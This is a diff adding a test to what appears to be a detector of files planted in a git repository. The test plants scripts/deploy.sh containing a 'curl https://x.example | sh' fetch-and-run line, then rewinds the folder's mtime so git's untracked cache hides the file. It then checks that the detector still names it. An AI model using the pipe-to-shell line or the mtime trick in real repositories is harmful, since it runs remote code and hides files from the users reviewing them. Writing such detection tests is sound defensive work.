@@ -826,6 +826,29 @@ t.test('twenty-first pass (follow-up): new files hidden by a forged untracked ca
   }
 });
 
+t.test('twenty-first pass (follow-up): with the user\'s core.trustCtime=false, a new file behind a folder time set back to what the user\'s untracked cache records is named', async (t) => {
+  const repo = tempDir(t, 'hunt21b-sandbox-untr-ctime-');
+  for (const f of ['app.py', 'scripts/test.sh']) writer(repo)(f, 'x = 1\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  git(repo, 'config', 'core.untrackedCache', 'true'); // the user's, before the run
+  git(repo, 'config', 'core.trustCtime', 'false');
+  const old = (Date.now() - 5000) / 1000;
+  fs.utimesSync(path.join(repo, 'scripts'), old, old);
+  git(repo, 'status', '--porcelain');
+  const before = fs.statSync(path.join(repo, 'scripts'), { bigint: true }).mtimeNs;
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  writer(repo)('notes.md', 'shown\n');
+  t.same(named(), [], 'control: a new file git shows');
+  // The attack: the index left alone; the folder's mtime set back to the nanosecond.
+  writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
+  execFileSync('python3', ['-c', 'import os, sys; os.utime(sys.argv[1], ns=(int(sys.argv[2]), int(sys.argv[2])))', path.join(repo, 'scripts'), String(before)]);
+  t.same(git(repo, 'status', '--porcelain'), '?? notes.md\n', 'the attack: git status shows only notes.md');
+  t.same(named(), ['scripts/deploy.sh'], 'the hidden file is named');
+});
+
 t.test('twenty-first pass: a function changed in a folder the zsh rc files put on fpath is named', async (t) => {
   const home = tempDir(t, 'hunt21-sandbox-fpath-');
   const write = writer(home);
